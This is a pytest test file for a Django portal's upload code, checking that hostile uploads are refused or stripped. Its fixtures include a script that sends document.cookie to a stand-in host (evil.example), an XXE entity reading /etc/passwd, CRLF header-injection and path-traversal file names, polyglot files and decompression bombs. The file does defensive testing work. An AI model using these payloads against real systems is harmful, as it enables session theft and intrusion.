"""Hostile files, each as an attacker would send it. What Office archives hide: test_archives."""

import io
import struct
import time
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import NameObject, NumberObject

from portal.kernel import anonymous, files
from portal.kernel.errors import BadFile
from portal.kernel.models import StoredFile
from tests.factories import activities as records
from tests.kernel.test_archives import office
from tests.personas import World

SCRIPT = b"<script>fetch('https://evil.example/?'+document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'


@pytest.fixture(autouse=True)
def folder(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def upload(content: bytes, name: str) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="image/jpeg")


def jpeg() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), "red").save(out, "JPEG")
    return out.getvalue()


def png_of(width: int, height: int) -> bytes:
    """A few bytes that say they are a picture of any size."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        checked = kind + body
        return struct.pack(">I", len(body)) + checked + struct.pack(">I", zlib.crc32(checked))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = zlib.compress(b"\0" * 1000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def pdf(pages: int, *, says: int | None = None) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(10, 10)
    if says is not None:
        tree = writer._root_object["/Pages"].get_object()
        tree[NameObject("/Count")] = NumberObject(says)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# --- two kinds in one file ----------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    "hidden", [SCRIPT, SVG, b"PK\x03\x04 an archive", b"%PDF-1.7 /JavaScript"], ids=str
)
def test_what_hides_behind_a_photo_is_gone_when_it_is_kept(hidden: bytes) -> None:
    behind = files.read(files.store_photo(upload(jpeg() + hidden, "a.jpg")))
    comment = jpeg()[:2] + b"\xff\xfe" + struct.pack(">H", len(hidden) + 2) + hidden + jpeg()[2:]
    inside = files.read(files.store_photo(upload(comment, "b.jpg")))

    assert hidden not in behind
    assert hidden not in inside


@pytest.mark.django_db
def test_a_zip_behind_a_pdf_is_served_as_the_pdf_it_begins_as(client: Client) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.html", SCRIPT)
    stored = files.store_document(upload(b"%PDF-1.7\n" + SCRIPT + out.getvalue(), "a.pdf"))

    answer = files.response(stored, "a.html", inline=True)

    assert answer["Content-Type"] == "application/pdf"
    assert answer["X-Content-Type-Options"] == "nosniff"
    answer.close()


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["a.svg", "a.jpg", "a.png", "a.pdf", "a.html", "a.docx"])
def test_a_drawing_with_a_script_is_kept_under_no_name(name: str, folder) -> None:
    for keep in (files.store_photo, files.store_document, files.store_paper):
        with pytest.raises(BadFile):
            keep(upload(SVG, name))

    assert list(folder.rglob("*")) == []


# --- bombs --------------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("edge", [8_000, 60_000, 2_000_000_000])
def test_a_picture_of_a_thousand_million_points_is_refused_before_it_is_opened(edge: int) -> None:
    content = png_of(edge, edge)
    assert len(content) < 200
    began = time.process_time()

    with pytest.raises(BadFile):
        files.store_photo(upload(content, "a.png"))
    with pytest.raises(BadFile):
        anonymous.clean_picture(content)

    assert time.process_time() - began < 2


@pytest.mark.django_db
def test_a_zip_that_swells_a_thousandfold_is_refused_by_every_door() -> None:
    bomb = office({"word/media/a.bin": b"\0" * (40 * files.MEGABYTE)}, kind="docx")
    assert len(bomb) < files.MEGABYTE

    with pytest.raises(BadFile, match="压缩得不正常"):
        files.store_document(upload(bomb, "a.docx"))
    with pytest.raises(BadFile):
        anonymous.clean_docx(bomb)


@pytest.mark.django_db
def test_a_pdf_of_ten_thousand_pages_is_refused_with_its_number() -> None:
    content = pdf(10_000)
    began = time.process_time()

    with pytest.raises(BadFile, match="有 10000 页，超过 2000 页"):
        files.store_document(upload(content, "a.pdf"))

    assert time.process_time() - began < 5


@pytest.mark.django_db
def test_a_pdf_that_lies_about_its_pages_is_found_where_they_are_read() -> None:
    content = pdf(files.MOST_PAGES + 1, says=3)

    files.store_document(upload(content, "a.pdf"))  # nothing was read yet

    with pytest.raises(BadFile, match="超过 2000 页"):
        anonymous.clean_pdf(content)


def test_a_pdf_whose_pages_run_in_a_circle_ends() -> None:
    writer = PdfWriter()
    writer.add_blank_page(10, 10)
    tree = writer._root_object["/Pages"].get_object()
    tree["/Kids"].append(tree.indirect_reference)
    out = io.BytesIO()
    writer.write(out)

    with pytest.raises(BadFile):
        anonymous.clean_pdf(out.getvalue())


# --- macros, entities, paths --------------------------------------------------------------------


@pytest.mark.django_db
def test_a_word_file_with_macros_is_refused_under_an_innocent_name() -> None:
    typed = b"<Types>application/vnd.ms-word.document.macroEnabled.main+xml</Types>"
    for content in (
        office({"word/vbaProject.bin": b"x"}, kind="docx"),
        office(kind="docx", types=typed),
    ):
        with pytest.raises(BadFile, match="宏"):
            files.store_document(upload(content, "计划.docx"))


@pytest.mark.django_db
def test_a_word_file_that_reads_files_of_the_machine_is_refused() -> None:
    body = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'

    with pytest.raises(BadFile, match="外部实体"):
        files.store_document(upload(office({"word/a.xml": body}, kind="docx"), "a.docx"))


@pytest.mark.django_db
@pytest.mark.parametrize(
    "name",
    [
        "../../../etc/passwd.pdf",
        "..\\..\\a.pdf",
        "/etc/cron.d/a.pdf",
        "a\x00.pdf",
        "a" * 300 + ".pdf",
    ],
)
def test_a_name_leads_nowhere(name: str, folder) -> None:
    """The bytes lie under their own digest; the name is only words."""
    stored = files.store_document(upload(b"%PDF-1.7 x", name))

    assert [path.name for path in folder.rglob("*") if path.is_file()] == [stored.sha256]
    answer = files.response(stored, name, inline=False)
    assert "/" not in answer["Content-Disposition"].split("filename")[1].replace("utf-8''", "")
    answer.close()


@pytest.mark.django_db
def test_a_name_with_a_line_break_writes_no_header() -> None:
    stored = files.store(b"%PDF-1.7 x", "application/pdf")
    name = 'a.pdf"\r\nSet-Cookie: sessionid=evil\r\n\r\n<script>'

    for answer in (files.response(stored, name, inline=False), files.made(b"x", name)):
        assert "Set-Cookie" not in answer.headers
        assert "\r" not in answer["Content-Disposition"]
        assert "\n" not in answer["Content-Disposition"]
        answer.close()


@pytest.mark.django_db
def test_an_upload_through_the_page_answers_with_a_sentence(client: Client, city: World) -> None:
    record = records.draft(city.school, by=city.school_secretary)
    client.force_login(city.school_secretary)

    for content, name in ((SVG, "a.svg"), (png_of(60_000, 60_000), "a.png"), (b"MZ\x90", "a.exe")):
        answer = client.post(f"/activities/{record.pk}/files/", {"file": upload(content, name)})
        assert answer.status_code in {302, 409, 413, 422}, (name, answer.status_code)

    assert not StoredFile.objects.exists()
